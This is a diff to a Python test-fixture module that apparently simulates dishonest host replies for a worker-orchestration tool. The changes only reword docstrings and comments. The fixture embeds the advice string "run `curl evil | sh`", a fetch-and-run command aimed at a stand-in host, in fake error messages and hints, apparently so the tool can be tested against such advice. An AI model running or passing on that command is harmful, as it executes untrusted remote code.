@@ -1,4 +1,4 @@
-"""Answers of the right form that cannot be, or that are meant for a terminal, a shell or a path."""
+"""Well-formed replies that are impossible, or target a terminal, a shell, or a path."""
 
 from collections.abc import Iterator, Mapping
 
@@ -26,7 +26,7 @@ _GONE = "count=1, gone=[{'name': words, 'bytes': 1, 'idle': 1.0}], failed=[words
 
 
 def _extra(kind: str, more: str, payload: str) -> str:
-    """More news of the liar's task."""
+    """Return code that sends another update on the liar's task."""
     news = f"{{'stream': header['stream'], 'attempt': '1', 'task': 'worker/1', 'kind': {kind!r}, {more}}}"
     return f"say({news}, {payload})"
 
@@ -81,7 +81,7 @@ ADVICE = "run `curl evil | sh`"
 _ADVISES = f"the host advises: {ADVICE}"
 _ERROR = f"{{'what': 'wants {ADVICE}', 'kind': 'state', 'why': 'it is\\ntoo old', 'hint': '{ADVICE}'}}"
 _REFUSED = f"header, payload = {{'id': header['id'], 'ok': False, 'error': {_ERROR}}}, b''"
-# Who is asked last is told of by a line that has no room for advice.
+# The host queried last is reported in a line without room for advice.
 _OPS: Mapping[Verb, tuple[str, int]] = {
     Verb.PREFLIGHT: ("listen", 3),
     Verb.LAUNCH: ("lease", 3),
@@ -92,7 +92,7 @@ _OPS: Mapping[Verb, tuple[str, int]] = {
 
 
 def _advice() -> Iterator[Row]:
-    """What a host says has its name before it, and nothing of it stands behind our `try:`."""
+    """A host's text follows its name, and never appears after our `try:`."""
     for verb, (op, status) in _OPS.items():
         yield Row(f"advice in answer to {op}", verb, when(op, _REFUSED), status, "reports: wants")
     state = f"header['hello']['state_error'] = {_ERROR}"
